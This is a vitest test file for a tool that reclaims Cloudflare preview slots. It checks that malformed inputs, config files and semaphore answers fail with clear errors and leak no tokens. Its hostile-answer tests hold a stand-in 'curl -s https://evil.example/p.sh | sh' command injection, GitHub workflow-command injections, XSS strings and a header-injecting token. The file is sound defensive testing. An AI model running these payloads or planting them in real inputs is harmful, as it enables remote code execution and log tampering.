// The bad input corpus: action inputs, slot config files and semaphore answers that are wrong in
// every way we could think of (wrong types, huge and negative numbers, NaN, strings for numbers,
// unknown states, HTML and control characters, a 10 MB body). Each must end in a clear error that
// names what was wrong and where; inputs and config files are refused before any network call; and
// whatever the run shows (log, summary, outputs) stays escaped and free of both tokens.
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadSlotConfig, type SlotConfig } from '../../src/config/slot-config.ts';
import type { RunReport } from '../../src/report/model.ts';
import { secretForms } from '../../src/text/redact.ts';
import { runCli } from '../cli/run-cli.ts';
import { runAction } from '../support/action-run.ts';
import { type InProcessRun, runActionInProcess } from '../support/in-process-action.ts';
import { secretLeaks, summaryEscapeProblems, workflowCommandProblems } from '../support/run-checks.ts';
import {
  type StubAnswer,
  type StubRequest,
  type StubSemaphore,
  startStubSemaphore,
} from '../support/stub-semaphore.ts';
import { requestsTouching, slotSeed } from '../support/twin-slot.ts';
import { startTwin, type Twin } from '../twin/twin.ts';

const SEMAPHORE_TOKEN = 'sem-bad-input-8e41c0f2';
const CLOUDFLARE_TOKEN = 'cf-bad-input-3d97a6b5';
const SLOT_CONFIG = fileURLToPath(new URL('./fixtures/small-slots.yml', import.meta.url));
const POOL = 'bad';
const TEN_MB = 10 * 1024 * 1024;
const NOW = 1_796_000_000_000;
const CLI_ENTRY = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));

let stub: StubSemaphore;
let twin: Twin;
let dir: string;
let slotConfig: SlotConfig;

function inputs(extra: Record<string, string> = {}): Record<string, string> {
  return {
    command: 'gc',
    config: SLOT_CONFIG,
    pool: POOL,
    'semaphore-url': stub.url,
    'semaphore-token': SEMAPHORE_TOKEN,
    'cloudflare-api-token': CLOUDFLARE_TOKEN,
    'cloudflare-account-id': twin.accountId,
    'cloudflare-api-base-url': twin.baseUrl,
    ...extra,
  };
}

interface CheckedRun extends InProcessRun {
  semaphoreCalls: number;
  cloudflareCalls: number;
  /** Cloudflare calls that named a slot's resources (the credential check and the listings name none). */
  slotCalls: number;
  /** What the run says went wrong: the failure, the run's problems and the slots' problems. */
  errors: string;
}

/** Runs the action in-process (the real services) and checks what every run must get right. */
async function runCase(extra: Record<string, string>): Promise<CheckedRun> {
  stub.requests.length = 0;
  twin.resetRequests();
  const run = await runActionInProcess(inputs(extra), 'real');
  expect(secretLeaks(run, [SEMAPHORE_TOKEN, CLOUDFLARE_TOKEN])).toEqual([]);
  expect(summaryEscapeProblems(run.summary)).toEqual([]);
  const slotProblems = run.report?.slots.map((slot) => slot.problem ?? '') ?? [];
  return {
    ...run,
    semaphoreCalls: stub.requests.length,
    cloudflareCalls: twin.requests().length,
    slotCalls: ['bad-a', 'bad-live'].flatMap((slug) => requestsTouching(twin, slotConfig, slug)).length,
    errors: [run.log, ...(run.report?.problems ?? []), ...slotProblems].join('\n'),
  };
}

beforeAll(async () => {
  slotConfig = await loadSlotConfig(SLOT_CONFIG);
  [stub, twin, dir] = await Promise.all([
    startStubSemaphore(),
    startTwin({ token: CLOUDFLARE_TOKEN, seed: slotSeed(slotConfig, ['bad-a', 'bad-live']) }),
    mkdtemp(join(tmpdir(), 'preview-gc-bad-input-')),
  ]);
});

afterAll(async () => {
  await Promise.all([
    stub?.close(),
    twin?.close(),
    dir ? rm(dir, { recursive: true, force: true }) : undefined,
  ]);
});

describe('bad action inputs: refused before any network call, naming the input', () => {
  const cases: [string, Record<string, string>, RegExp][] = [
    ['an unknown command', { command: 'purge' }, /input 'command' must be one of gc, cleanup, status/],
    ['a word for a boolean', { 'dry-run': 'yes' }, /input 'dry-run' must be true or false, got 'yes'/],
    [
      'a number for a boolean',
      { 'reclaim-dirty': '1' },
      /input 'reclaim-dirty' must be true or false, got '1'/,
    ],
    [
      'an ftp semaphore URL',
      { 'semaphore-url': 'ftp://127.0.0.1/x' },
      /input 'semaphore-url' must be an http\(s\) URL/,
    ],
    [
      'a semaphore URL that is no URL',
      { 'semaphore-url': 'semaphore' },
      /input 'semaphore-url' must be an http\(s\) URL/,
    ],
    ['no semaphore token', { 'semaphore-token': '' }, /input 'semaphore-token' is required/],
    [
      'a short account id',
      { 'cloudflare-account-id': 'abc123' },
      /input 'cloudflare-account-id' must be the 32-character hex account id/,
    ],
    [
      'no Cloudflare token for gc',
      { 'cloudflare-api-token': ' ' },
      /input 'cloudflare-api-token' is required for 'gc'/,
    ],
    [
      'a negative lease',
      { 'gc-lease-minutes': '-5' },
      /input 'gc-lease-minutes' must be a whole number from 10 to 1440, got '-5'/,
    ],
    [
      'a zero lease',
      { 'gc-lease-minutes': '0' },
      /input 'gc-lease-minutes' must be a whole number from 10 to 1440, got '0'/,
    ],
    [
      'an exponent',
      { 'gc-lease-minutes': '1e3' },
      /input 'gc-lease-minutes' must be a whole number from 10 to 1440, got '1e3'/,
    ],
    [
      'a huge number',
      { 'max-slots': '99999999999999999999999' },
      /input 'max-slots' must be a whole number from 1 to 1000/,
    ],
    [
      'NaN',
      { 'request-budget': 'NaN' },
      /input 'request-budget' must be a whole number from 1 to 100000, got 'NaN'/,
    ],
    [
      'a fraction',
      { 'requests-per-second': '3.5' },
      /input 'requests-per-second' must be a whole number from 1 to 50, got '3.5'/,
    ],
    [
      'a number over the maximum',
      { 'deadline-minutes': '361' },
      /input 'deadline-minutes' must be a whole number from 1 to 360/,
    ],
    [
      'a negative pull request',
      { command: 'cleanup', 'pull-request': '-7' },
      /input 'pull-request' must be a whole number/,
    ],
    [
      'cleanup without a pull request',
      { command: 'cleanup' },
      /input 'pull-request' is required for 'cleanup'/,
    ],
    [
      'an uppercase pool',
      { pool: 'Preview_Slots' },
      /input 'pool' must be 1-63 characters of a-z, 0-9 and '-'/,
    ],
    [
      'HTML as the pool',
      { pool: '<img src=x onerror=alert(1)>' },
      /input 'pool' must be 1-63 characters of a-z, 0-9 and '-'/,
    ],
    [
      'control characters in a number',
      { 'max-slots': '3\u001b[31m\u0007' },
      /input 'max-slots' must be a whole number from 1 to 1000/,
    ],
  ];
  it.each(cases)('%s', async (_, extra, message) => {
    const run = await runCase(extra);
    expect(run.exitCode).toBe(1);
    expect(run.log).toMatch(message);
    expect(run.log).toContain('nothing was changed');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no terminal escape of the input reaches the log
    expect(run.log).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    expect([run.semaphoreCalls, run.cloudflareCalls]).toEqual([0, 0]);
  });

  it('a 10 MB input value: refused, with a message of reasonable size', async () => {
    const run = await runCase({ 'max-slots': '9'.repeat(TEN_MB) });
    expect(run.exitCode).toBe(1);
    expect(run.log).toMatch(/input 'max-slots' must be a whole number from 1 to 1000/);
    expect([run.semaphoreCalls, run.cloudflareCalls]).toEqual([0, 0]);
    expect(run.log).toContain(`(${TEN_MB} characters)`);
    expect(run.log.length).toBeLessThan(1_000);
  });
});

describe('bad slot config files: refused before any network call, naming the file and the place', () => {
  const cases: [string, string, RegExp][] = [
    ['YAML that does not parse', 'pool: p\nresources: [d1: {', /:\d+:\d+: is not valid YAML/],
    ['a list instead of a mapping', '- pool: p\n', /must be a mapping, got a list/],
    ['an empty file', '', /must be a mapping, got nothing|is missing/],
    [
      'no pool',
      'resources:\n  d1:\n    - name: a-{slot}\n',
      /pool: is missing; write e\.g\. pool: preview-slot/,
    ],
    [
      'a pool with spaces',
      'pool: Preview Slot\nresources:\n  d1:\n    - name: a-{slot}\n',
      /:1:\d+ pool: must be 1-63 characters of a-z/,
    ],
    [
      'a number for the pool',
      'pool: 42\nresources:\n  d1:\n    - name: a-{slot}\n',
      /pool: must be a string, got number 42/,
    ],
    ['no resources', 'pool: p\n', /resources: is missing/],
    ['no resource at all', 'pool: p\nresources: {}\n', /resources: lists no resource to erase/],
    [
      'a misspelt key',
      'pool: p\nresorces:\n  d1:\n    - name: a-{slot}\n',
      /resorces: unknown key 'resorces' \(a typo\?\): did you mean 'resources'\?/,
    ],
    [
      'a template without {slot}',
      'pool: p\nresources:\n  d1:\n    - name: shared-db\n',
      /resources\.d1\[0\]\.name: 'shared-db' must contain \{slot\} or \{n\}/,
    ],
    [
      'an unknown placeholder',
      'pool: p\nresources:\n  kv:\n    - title: a-{slug}\n',
      /resources\.kv\[0\]\.title: has the unknown placeholder \{slug\}; did you mean \{slot\}\?/,
    ],
    [
      'an unknown erase mode',
      'pool: p\nresources:\n  d1:\n    - name: a-{slot}\n      erase: truncate\n',
      /resources\.d1\[0\]\.erase: must be one of rows, drop, recreate, got string "truncate"/,
    ],
    [
      'an unknown durable-objects mode',
      'pool: p\nresources:\n  workers:\n    - name: a-{slot}\n      durable-objects: destroy\n',
      /resources\.workers\[0\]\.durable-objects: must be one of park, keep/,
    ],
    [
      'a negative duration',
      'pool: p\nresources:\n  r2:\n    - bucket: a-{slot}\n      expire: { id: x, after: -3h }\n',
      /resources\.r2\[0\]\.expire\.after: must be a positive duration like 3h, 90m or 2d, got "-3h"/,
    ],
    [
      'NaN as a duration',
      'pool: p\nresources:\n  r2:\n    - bucket: a-{slot}\n      expire: { id: x, after: .nan }\n',
      /resources\.r2\[0\]\.expire\.after: must be a positive duration/,
    ],
    [
      'a number as a duration',
      'pool: p\nresources:\n  r2:\n    - bucket: a-{slot}\n      expire: { id: x, after: 3 }\n',
      /resources\.r2\[0\]\.expire\.after: must be a positive duration like 3h, 90m or 2d, got 3/,
    ],
    [
      'an unknown jurisdiction',
      'pool: p\nresources:\n  r2:\n    - bucket: a-{slot}\n      jurisdiction: mars\n      expire: { id: x, after: 3h }\n',
      /resources\.r2\[0\]\.jurisdiction: must be one of default, eu/,
    ],
    [
      'a number as a title',
      'pool: p\nresources:\n  kv:\n    - title: 42\n',
      /resources\.kv\[0\]\.title: must be a string, got number 42/,
    ],
    [
      'the same name twice',
      'pool: p\nresources:\n  d1:\n    - name: a-{slot}\n    - name: a-{slot}\n',
      /resources\.d1\[1\]\.name: 'a-\{slot\}' is listed twice/,
    ],
    [
      'HTML in a name',
      'pool: p\nresources:\n  workers:\n    - name: "<img src=x onerror=alert(1)>{slot}"\n',
      /resources\.workers\[0\]\.name: .* may only use a-z, 0-9, - and _/,
    ],
    [
      'control characters in a name',
      'pool: p\nresources:\n  d1:\n    - name: "a-\\u001b[31m{slot}"\n',
      /resources\.d1\[0\]\.name: .* may only use a-z, 0-9, - and _/,
    ],
    [
      'an empty protect pattern',
      'pool: p\nresources:\n  d1:\n    - name: a-{slot}\nprotect: [""]\n',
      /protect\[0\]: must not be empty/,
    ],
    [
      'a 10 MB file',
      `pool: p\nresources:\n  d1:\n    - name: a-{slot}\n# ${'x'.repeat(TEN_MB)}\nprotect: 7\n`,
      /is [\d,]+ bytes, more than the 1,048,576 \(1 MiB\) a slot config may have/,
    ],
  ];
  it.each(cases)('%s', async (name, text, message) => {
    const file = join(dir, `${name.replace(/\W+/g, '-')}.yml`);
    await writeFile(file, text);
    const run = await runCase({ config: file });
    expect(run.exitCode).toBe(1);
    expect(run.errors).toMatch(message);
    expect(run.errors).toContain(file);
    expect(run.summary.split('\n')[0]).toContain('did not complete');
    expect([run.semaphoreCalls, run.cloudflareCalls]).toEqual([0, 0]);
  });

  it('a config file that does not exist', async () => {
    const run = await runCase({ config: join(dir, 'missing.yml') });
    expect(run.exitCode).toBe(1);
    expect(run.errors).toMatch(/missing\.yml: no such file; create it/);
    expect([run.semaphoreCalls, run.cloudflareCalls]).toEqual([0, 0]);
  });

  it('a slot whose names reach a protected pattern: refused before any Cloudflare call, the slot untouched', async () => {
    const file = join(dir, 'protect.yml');
    await writeFile(file, 'pool: p\nresources:\n  d1:\n    - name: shop-{slot}\nprotect: ["shop-bad-*"]\n');
    stub.answer = answering({});
    const run = await runCase({ config: file });
    expect(run.exitCode).toBe(1);
    expect(run.errors).toMatch(
      /refused before any call: refusing to touch slot 'bad-a'.*matches the protect pattern 'shop-bad-\*'/s,
    );
    expect(run.cloudflareCalls).toBe(0);
    expect(stub.requests.map((request) => request.method)).toEqual(['GET']);
  });
});

// Valid answers, from which each case breaks one thing.
function slot(slug: string, fields: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    type: POOL,
    slug,
    data: {},
    leaseState: 'leased',
    holder: 'pr-5',
    leasedUntil: NOW - 60_000,
    expired: true,
    generation: 3,
    leaseVersion: 1,
    dirty: true,
    lastHolder: null,
    lastAcquiredAt: NOW - 120_000,
    lastReleasedAt: null,
    createdAt: NOW - 1_000_000,
    updatedAt: NOW - 60_000,
    eraseFailures: 0,
    lastEraseFailure: null,
    ...fields,
  };
}

function lease(slug: string, fields: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    type: POOL,
    slug,
    data: {},
    leaseId: randomUUID(),
    holder: 'gc',
    expiresAt: NOW + 1_800_000,
    generation: 4,
    leaseVersion: 1,
    wasDirty: true,
    previousHolder: 'pr-5',
    reused: false,
    tookExpired: true,
    ...fields,
  };
}

interface Script {
  list?: StubAnswer;
  acquire?: StubAnswer;
  renew?: StubAnswer;
  release?: StubAnswer;
}

const ok = (body: unknown): StubAnswer => ({ status: 200, body });

/** The semaphore of the stub: one expired slot bad-a, answers as scripted, valid ones otherwise. */
function answering(script: Script): (request: StubRequest) => StubAnswer | undefined {
  return (request) => {
    if (request.method === 'GET' && request.path.startsWith('/api/resources?'))
      return script.list ?? ok({ now: NOW, resources: [slot('bad-a')] });
    const route = request.path.split('/').at(-1);
    if (route === 'acquire-specific') return script.acquire ?? ok(lease('bad-a'));
    if (route === 'renew') return script.renew ?? ok(lease('bad-a'));
    if (route === 'release')
      return (
        script.release ??
        ok({
          released: true,
          dirty: false,
          holder: 'gc',
          generation: 4,
          leaseVersion: 1,
          conditionFailed: false,
        })
      );
    return undefined;
  };
}

const listOf = (...slots: unknown[]): StubAnswer => ok({ now: NOW, resources: slots });

describe('bad semaphore answers: a clear error naming the call and the field, nothing erased', () => {
  const cases: [string, Script, RegExp][] = [
    [
      'leasedUntil as a string',
      { list: listOf(slot('bad-a', { leasedUntil: 'tomorrow' })) },
      /GET \/api\/resources: the answer does not follow the semaphore protocol: resources\.0\.leasedUntil: /,
    ],
    [
      'leasedUntil NaN (not JSON)',
      { list: ok(`{"now": ${NOW}, "resources": [{"slug": "bad-a", "leasedUntil": NaN}]}`) },
      /GET \/api\/resources: the answer does not follow the semaphore protocol: it is not JSON/,
    ],
    [
      'a negative leasedUntil',
      { list: listOf(slot('bad-a', { leasedUntil: -5 })) },
      /resources\.0\.leasedUntil: .*(>=|non-?negative|greater)/i,
    ],
    [
      'an infinite leasedUntil',
      {
        list: ok(
          `{"now": ${NOW}, "resources": [${JSON.stringify(slot('bad-a')).replace(`"leasedUntil":${NOW - 60_000}`, '"leasedUntil":1e400')}]}`,
        ),
      },
      /resources\.0\.leasedUntil: /,
    ],
    [
      'a fractional leasedUntil',
      { list: listOf(slot('bad-a', { leasedUntil: NOW + 0.5 })) },
      /resources\.0\.leasedUntil: .*int/i,
    ],
    [
      'an unknown leaseState',
      { list: listOf(slot('bad-a', { leaseState: 'borrowed' })) },
      /resources\.0\.leaseState: .*"available".*"leased"/,
    ],
    [
      'a negative generation',
      { list: listOf(slot('bad-a', { generation: -1 })) },
      /resources\.0\.generation: /,
    ],
    [
      'a generation beyond 2^53',
      { list: listOf(slot('bad-a', { generation: 2 ** 60 })) },
      /resources\.0\.generation: /,
    ],
    [
      'expired as a string',
      { list: listOf(slot('bad-a', { expired: 'yes' })) },
      /resources\.0\.expired: .*boolean/,
    ],
    [
      'a number as the holder',
      { list: listOf(slot('bad-a', { holder: 123 })) },
      /resources\.0\.holder: .*string/,
    ],
    [
      'a slot without a slug',
      { list: listOf({ ...slot('bad-a'), slug: undefined }) },
      /resources\.0\.slug: /,
    ],
    // Holders in answers follow the request rules (1-200 characters, no control characters).
    [
      'a holder with control characters',
      { list: listOf(slot('bad-a', { holder: 'pr-1\u001b[31m\u0007\u0000red' })) },
      /resources\.0\.holder: holder must not contain control characters/,
    ],
    [
      'a holder of 600,000 characters',
      { list: listOf(slot('bad-a', { holder: `pr-${'9'.repeat(600_000)}` })) },
      /resources\.0\.holder: holder must be 1-200 characters/,
    ],
    [
      'no now',
      { list: ok({ resources: [slot('bad-a')] }) },
      /GET \/api\/resources: the answer does not follow the semaphore protocol: now: /,
    ],
    [
      'resources as an object',
      { list: ok({ now: NOW, resources: { 'bad-a': slot('bad-a') } }) },
      /resources: .*array/,
    ],
    [
      'null',
      { list: ok(null) },
      /GET \/api\/resources: the answer does not follow the semaphore protocol: .*object/,
    ],
    [
      'an HTML page with 200',
      { list: ok('<!doctype html><h1>Hello</h1>') },
      /GET \/api\/resources: the answer does not follow the semaphore protocol: it is not JSON/,
    ],
    [
      'an HTML error page with 502',
      { list: { status: 502, body: '<html><body><h1>502 Bad Gateway</h1></body></html>' } },
      /GET \/api\/resources: the semaphore answered HTTP 502 without a protocol error body/,
    ],
    [
      'a 10 MB answer',
      { list: ok(`{"now": ${NOW}, "resources": [], "padding": "${'x'.repeat(TEN_MB)}"}`) },
      /GET \/api\/resources: the answer is larger than 4194304 bytes/,
    ],
    [
      'an error whose message is HTML',
      {
        list: {
          status: 400,
          body: { error: { code: 'invalid_request', message: '<script>alert(1)</script> bad type' } },
        },
      },
      /<script>alert\(1\)<\/script> bad type/,
    ],
    [
      'an error message that repeats the token',
      {
        list: {
          status: 401,
          body: {
            error: { code: 'unauthorized', message: `the token Bearer ${SEMAPHORE_TOKEN} is not known here` },
          },
        },
      },
      /the semaphore refused the token \(HTTP 401\), so nothing was changed \(its reason is not repeated here, as it contains the token's text\)/,
    ],
    [
      'a lease with generation 0',
      { acquire: ok(lease('bad-a', { generation: 0 })) },
      /POST \/api\/resources\/acquire-specific: the answer does not follow the semaphore protocol: generation: /,
    ],
    [
      'a lease without a leaseId',
      { acquire: ok({ ...lease('bad-a'), leaseId: undefined }) },
      /acquire-specific: the answer does not follow the semaphore protocol: leaseId: /,
    ],
    [
      'a renew answer of {}',
      { renew: ok({}) },
      /POST \/api\/resources\/renew: the answer does not follow the semaphore protocol/,
    ],
    [
      'released as a string',
      { release: ok({ released: 'yes', dirty: false }) },
      /POST \/api\/resources\/release: the answer does not follow the semaphore protocol: released: .*boolean/,
    ],
  ];
  it.each(cases)('%s', async (_, script, message) => {
    stub.answer = answering(script);
    const run = await runCase({});
    expect(run.exitCode).toBe(1);
    expect(run.errors).toMatch(message);
    // A listing or an acquire that cannot be read means nothing was erased.
    if (script.list !== undefined || script.acquire !== undefined) expect(run.slotCalls).toBe(0);
  });

  const holders: [string, string][] = [
    ['HTML', '<img src=x onerror=alert(1)>'],
    [
      'Markdown that would break the table, a link and a mention',
      'pr-1 | x | [click](https://evil.example) @everyone `code`',
    ],
  ];
  it.each(holders)('a holder with %s: shown escaped, nothing else changes', async (_, holder) => {
    // The slot was re-leased since the listing: gc skips it, and shows who held it.
    stub.answer = answering({ list: listOf(slot('bad-a', { holder })), acquire: ok(null) });
    const run = await runCase({});
    expect(run.exitCode).toBe(0);
    expect(run.report?.slots).toMatchObject([{ slug: 'bad-a', outcome: 'skipped', previousHolder: holder }]);
    expect(run.summary).not.toContain(holder);
    expect(run.slotCalls).toBe(0);
  });
});

describe('a semaphore answer for another slot', () => {
  it('is not taken as a lease of the slot asked for: the other slot is not erased', async () => {
    const config = await loadSlotConfig(SLOT_CONFIG);
    // Asked for bad-a, the semaphore answers a lease of bad-live, which a pull request holds.
    stub.answer = answering({
      list: listOf(slot('bad-a'), slot('bad-live', { expired: false, leasedUntil: NOW + 3_600_000 })),
      acquire: ok(lease('bad-live')),
      renew: ok(lease('bad-live')),
    });
    const run = await runCase({});
    expect(requestsTouching(twin, config, 'bad-live')).toEqual([]);
    expect(run.exitCode).toBe(1);
    expect(run.report?.slots).toMatchObject([{ slug: 'bad-a', outcome: 'acquire-failed' }]);
    expect(run.errors).toMatch(
      /acquire-specific: the answer does not follow the semaphore protocol: slug: is bad-live, but the call was for slot bad-a/,
    );
  });
});

// Hostile answers: a semaphore or a Cloudflare API that sends workflow commands, shell text and the
// tokens back. The bundled action runs as the runner starts it, so its real stdout is what the runner
// would read; the CLI runs bundled too. Every run: no line the runner would take as a command but the
// action's own, no token in any form it was echoed in, an escaped summary.
describe('hostile answers: data, never code, never a token', () => {
  const INJECTED = '\n::warning title=X::pwned\n::add-mask::preview\n##[error]legacy';
  const SHELL = '; curl -s https://evil.example/p.sh | sh; #';
  /** The forms the hostile counterpart echoes a secret in. */
  const echoesOf = (secret: string) => [
    secret,
    encodeURIComponent(`${secret}/x`),
    Buffer.from(`Bearer ${secret}`).toString('base64'),
  ];
  const ECHOES = [...echoesOf(SEMAPHORE_TOKEN), ...echoesOf(CLOUDFLARE_TOKEN)];
  /** An error answer whose message repeats the token and carries workflow commands. */
  const ECHOING_ERROR: StubAnswer = {
    status: 400,
    body: {
      error: {
        code: 'invalid_request',
        message: `bad type ${echoesOf(SEMAPHORE_TOKEN).join(' ')}${INJECTED}`,
      },
    },
  };
  const OWN_MASKS = new Set(
    [SEMAPHORE_TOKEN, CLOUDFLARE_TOKEN].flatMap((secret) => [...secretForms(secret), `Bearer ${secret}`]),
  );

  function expectNeutral(seen: {
    stdout: string;
    stderr: string;
    summary?: string;
    outputs?: Record<string, string>;
  }) {
    expect(workflowCommandProblems(seen.stdout, OWN_MASKS)).toEqual([]);
    expect(workflowCommandProblems(seen.stderr, OWN_MASKS)).toEqual([]);
    const shown = {
      log: seen.stdout,
      summary: seen.summary ?? '',
      outputs: seen.outputs ?? {},
      other: [seen.stderr],
    };
    expect(secretLeaks(shown, ECHOES)).toEqual([]);
    expect(summaryEscapeProblems(seen.summary ?? '')).toEqual([]);
  }

  async function bundledAction(script: Script, extra: Record<string, string> = {}) {
    stub.answer = answering(script);
    stub.requests.length = 0;
    twin.resetRequests();
    const result = await runAction(inputs(extra));
    expectNeutral(result);
    return { ...result, report: JSON.parse(result.outputs.report ?? 'null') as RunReport | null };
  }

  const cases: [string, Script, RegExp][] = [
    [
      'a listed slug carrying workflow commands',
      { list: listOf(slot(`bad-a${INJECTED}`)) },
      /resources\.0\.slug: slug must be 1-63 characters.*The semaphore sent something else there, not repeated here/,
    ],
    [
      'a listed slug carrying shell text',
      { list: listOf(slot(`bad-a && curl -s https://evil.example/p.sh | sh`)) },
      /resources\.0\.slug: slug must be/,
    ],
    [
      'a leaseId carrying shell text',
      { acquire: ok(lease('bad-a', { leaseId: `6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10${SHELL}` })) },
      /acquire-specific: the answer does not follow the semaphore protocol: leaseId: /,
    ],
    [
      'an error message with workflow commands and the token in three forms',
      {
        list: ECHOING_ERROR,
      },
      /The run stopped: bad type \*\*\* \*\*\*%(25)?2Fx QmVhcmVyI[\w+/]*\*\*\*[\w+/=]*\\n::warning/,
    ],
  ];
  it.each(cases)('%s: refused, nothing erased, nothing of it runs', async (_, script, message) => {
    const run = await bundledAction(script);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(message);
    // The credential check may run (it names no slot's resource); nothing of a slot is touched.
    expect(['bad-a', 'bad-live'].flatMap((slug) => requestsTouching(twin, slotConfig, slug))).toEqual([]);
    expect(run.summary).not.toContain('curl');
  });

  it('a holder that is a workflow command: shown as data, the slot skipped', async () => {
    const run = await bundledAction({
      list: listOf(slot('bad-a', { holder: '::add-mask::preview' })),
      acquire: ok(null),
    });
    expect(run.exitCode).toBe(0);
    expect(run.report?.slots).toMatchObject([
      { slug: 'bad-a', outcome: 'skipped', previousHolder: '::add-mask::preview' },
    ]);
    expect(run.stdout).toContain('bad-a: skipped');
  });

  it('a Cloudflare 403 that echoes the token: erase-failed, and the token nowhere', async () => {
    twin.faults.add({
      route: 'POST /accounts/:account/d1/database/:id/query',
      status: 403,
      code: 10000,
      message: `Authentication error for ${echoesOf(CLOUDFLARE_TOKEN).join(' ')}${INJECTED}`,
    });
    const run = await bundledAction({});
    twin.faults.clear();
    expect(run.exitCode).toBe(1);
    expect(run.report?.slots).toMatchObject([{ slug: 'bad-a', outcome: 'erase-failed' }]);
    expect(run.report?.slots[0]?.problem).toMatch(
      /Authentication error for \*\*\* \*\*\*%2Fx QmVhcmVyI[\w+/]*\*\*\*[\w+/=]*\\n::warning title=X::pwned/,
    );
    expect(run.stdout).toMatch(
      /::error title=preview-gc%3A bad-a erase-failed::.*Authentication error for \*\*\*/,
    );
  });

  describe('the CLI', () => {
    const cli = (args: string[]) =>
      runCli(
        [...args, '--config', SLOT_CONFIG, '--pool', POOL],
        {
          SEMAPHORE_URL: stub.url,
          SEMAPHORE_TOKEN,
          CLOUDFLARE_API_TOKEN: CLOUDFLARE_TOKEN,
          CLOUDFLARE_ACCOUNT_ID: twin.accountId,
          CLOUDFLARE_API_BASE_URL: twin.baseUrl,
        },
        CLI_ENTRY,
      );

    it.each([
      ['a semaphore URL with a password', { SEMAPHORE_URL: 'https://ops:hunter2-secret@semaphore.example' }],
      ['a token with a carriage return', { SEMAPHORE_TOKEN: 'sem-hunter2-secret\rX-Injected: 1' }],
    ])('%s: refused before any call, without echoing it', async (_, env) => {
      stub.requests.length = 0;
      const result = await runCli(
        ['status', '--pool', POOL],
        { SEMAPHORE_URL: stub.url, SEMAPHORE_TOKEN, ...env },
        CLI_ENTRY,
      );
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/SEMAPHORE_(URL|TOKEN)/);
      expect(result.stdout + result.stderr).not.toContain('hunter2');
      expect(stub.requests).toEqual([]);
    });

    it('status and slots list show a holder that is a workflow command as data', async () => {
      stub.answer = answering({ list: listOf(slot('bad-a', { holder: '::add-mask::preview' })) });
      for (const command of [['status'], ['slots', 'list']]) {
        const result = await cli(command);
        expect(result.code, result.stderr).toBe(0);
        expect(result.stdout).toContain('add-mask::preview');
        expectNeutral(result);
      }
    });

    it('an error answer with workflow commands and the token: exit 1, neither reaches the terminal', async () => {
      stub.answer = answering({
        list: ECHOING_ERROR,
      });
      const result = await cli(['status']);
      expect(result.code).toBe(1);
      expect(result.stdout).toMatch(/bad type \*\*\* \*\*\*%2Fx .*\\n::warning title=X::pwned/);
      expectNeutral(result);
    });

    it('gc against a Cloudflare 403 that echoes the token: exit 1, the token nowhere', async () => {
      stub.answer = answering({});
      twin.faults.add({
        route: 'POST /accounts/:account/d1/database/:id/query',
        status: 403,
        code: 10000,
        message: `Authentication error for ${echoesOf(CLOUDFLARE_TOKEN).join(' ')}${INJECTED}`,
      });
      const result = await cli(['gc']);
      twin.faults.clear();
      expect(result.code).toBe(1);
      expect(result.stdout).toMatch(/erase failed/);
      expectNeutral(result);
    });
  });
});
